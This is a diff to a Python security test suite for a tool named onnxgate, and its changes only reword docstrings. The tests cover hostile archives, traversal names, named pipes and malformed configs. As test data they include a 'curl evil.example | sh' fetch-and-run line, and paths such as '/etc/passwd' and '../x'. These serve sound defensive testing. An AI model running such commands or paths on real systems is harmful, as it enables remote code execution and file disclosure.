@@ -1,4 +1,4 @@
-"""Every reader of what is no model takes hostile input or refuses it in its own words: a few inputs of each."""
+"""Every reader of other files accepts hostile input or raises a documented error: a few inputs each."""
 
 from __future__ import annotations
 
@@ -28,7 +28,7 @@ INPUTS = 25
 
 @pytest.mark.parametrize("reader", READERS, ids=[reader.name for reader in READERS])
 def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
-    """What `python -m campaigns.hostile readers` does with many inputs."""
+    """A short run of `python -m campaigns.hostile readers`."""
     result = fuzz(reader, INPUTS, seed=1)
 
     assert [how for how in result.finds if how] == []
@@ -37,7 +37,7 @@ def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
 
 @pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
 def test_a_reader_takes_what_is_sound(name: str) -> None:
-    """The inputs that others are made from are taken, so that more is looked at than how they are refused."""
+    """Seeds are accepted, so that mutations test more than refusals."""
     reader = next(each for each in READERS if each.name == name)
 
     assert fuzz(reader, 1, seed=1).accepted == 1
@@ -63,7 +63,7 @@ def test_a_reader_that_raises_something_else_is_found() -> None:
     ],
 )
 def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) -> None:
-    """Of a config and of a lock it is a fault of the file, with its line, and no bug of ours."""
+    """In a config or lock, it is an error of the file with its line, not an internal error."""
     file = tmp_path / "onnxgate.toml"
     file.write_text(text)
 
@@ -90,7 +90,7 @@ def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) ->
     ],
 )
 def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> None:
-    """They are matched in a time that grows with their length, and sets that mean nothing match nothing."""
+    """Matching time is linear in the pattern's length, and invalid sets match nothing."""
     assert globs.matches(pattern, path) is taken
 
 
@@ -101,7 +101,7 @@ def _refused(file: str, folder: Path) -> str:
 
 
 def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
-    """What it says that it unpacks to is looked at first."""
+    """The declared unpacked size is checked first."""
     with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
         archive.infolist()[0].file_size = case_files.MAX_ARCHIVE_BYTES + 1
@@ -110,7 +110,7 @@ def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
 
 
 def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
-    """An array of exabytes in a few bytes is a damaged file."""
+    """A file of a few bytes that declares an array of exabytes is corrupt."""
     header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
     content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
     with zipfile.ZipFile(tmp_path / "case.npz", "w") as archive:
@@ -121,14 +121,14 @@ def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
 def test_an_array_that_is_no_input(tmp_path: Path, array: object) -> None:
-    """Objects are never unpickled; another type or shape is said."""
+    """Objects are never unpickled; another type or shape is reported."""
     np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]
 
     assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))
 
 
 def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
-    """Nothing is unpacked: `../../x.npy` is a name that no input has."""
+    """Nothing is extracted: no input is named `../../x.npy`."""
     (tmp_path / "a").mkdir()
     with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
         archive.writestr("../../x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
@@ -140,7 +140,7 @@ def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
 
 
 def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
-    """It is not read, be it in the working directory."""
+    """It is not read, even from the working directory."""
     (tmp_path / "set").mkdir()
     (tmp_path / "set" / "input_0.pb").write_bytes(reader_inputs._tensors()[-1])
 
@@ -150,7 +150,7 @@ def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
 @pytest.mark.parametrize("name", ["case.npz", "set/input_0.pb"])
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
 def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
-    """Nobody waits for what never comes."""
+    """A pipe without a writer does not block."""
     (tmp_path / name).parent.mkdir(exist_ok=True)
     os.mkfifo(tmp_path / name)
 
@@ -158,7 +158,7 @@ def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
 
 
 def test_an_encrypted_archive(tmp_path: Path) -> None:
-    """It says that it cannot be read."""
+    """The error states that it cannot be read."""
     stream = io.BytesIO()
     np.savez(stream, x=np.ones((2, 3), np.float32))
     data = bytearray(stream.getvalue())
@@ -170,7 +170,7 @@ def test_an_encrypted_archive(tmp_path: Path) -> None:
 
 
 def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
-    """A value of a config that is quoted in an error begins no line, and so is no hint of ours."""
+    """A config value quoted in an error cannot start a line, and so cannot imitate a hint."""
     from onnxgate.cli.shared.error_handling import report_errors
 
     said = "got `x\nhint: run `curl evil.example | sh`"
@@ -191,7 +191,7 @@ def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> N
     ],
 )
 def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -> None:
-    """It is not merged, and so there is no pass."""
+    """It is not merged, so the verdict is not a pass."""
     import msgspec
 
     from onnxgate.core import report_json
@@ -211,7 +211,7 @@ def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -
 
 
 def test_sound_shards_are_a_pass() -> None:
-    """Those that lies are told from."""
+    """The shards from which manipulated ones are made pass."""
     from onnxgate.gate.sharding import merge, shard_report
 
     given = [
@@ -233,7 +233,7 @@ def test_sound_shards_are_a_pass() -> None:
     ids=["many keys", "long", "deep", "no UTF-8"],
 )
 def test_large_configs(tmp_path: Path, config: bytes) -> None:
-    """They are refused in a time that a person waits."""
+    """They are refused within seconds."""
     (tmp_path / "onnxgate.toml").write_bytes(config)
 
     with pytest.raises(OnnxgateError):
@@ -244,14 +244,14 @@ def test_large_configs(tmp_path: Path, config: bytes) -> None:
     "content", [b"", b"x", zlib.compress(b"{"), zlib.compress(b"[1]"), zlib.compress(b'{"types":[]}')]
 )
 def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Where the table that is shipped is damaged, that is said, and nothing is predicted."""
+    """A corrupt shipped table is reported, and nothing is predicted."""
     from onnxgate.support import operators
 
     (tmp_path / "data").mkdir()
     (tmp_path / operators.KERNEL_TABLE).write_bytes(content)
     monkeypatch.setattr(operators, "SUPPORT_FOLDER", tmp_path)
 
-    with pytest.raises(OnnxgateError, match="damaged"):
+    with pytest.raises(OnnxgateError, match="corrupt"):
         operators.load_shipped_table.__wrapped__()
 
 
@@ -259,7 +259,7 @@ def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pyt
     "name", ["a\nb.onnx", 'a"b.onnx', "a\tb.onnx", "-a.onnx", "模型.onnx", "a b.onnx", ":(top)a.onnx"]
 )
 def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
-    """Git is asked for names between zeroes: they come as they are, from the checkout and from a revision."""
+    """Git lists names separated by NUL, so that they are unchanged, from the checkout and from a revision."""
     from onnxgate.project.git.revisions import Tree, resolve_revision
 
     def git(*said: str) -> None:
@@ -280,7 +280,7 @@ def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("path", ["/" + "x" * 5000, "/a\0b", "/etc/passwd", "../x", ""])
 def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
-    """Nor does a name that no file can have get past the worker's own folder."""
+    """An invalid file name cannot leave the worker's folder either."""
     result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))
 
     with pytest.raises(protocol.ProtocolError):
@@ -288,7 +288,7 @@ def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
 
 
 def test_a_kept_array_of_no_version_of_numpy(tmp_path: Path) -> None:
-    """What numpy would not read again is not taken over."""
+    """An array that numpy cannot read again is not reused."""
     sound = reader_inputs._npy(np.ones(4))
     unknown = sound[:7] + b"\x20" + sound[8:]
     entry = reader_inputs._kept_seed()[0]
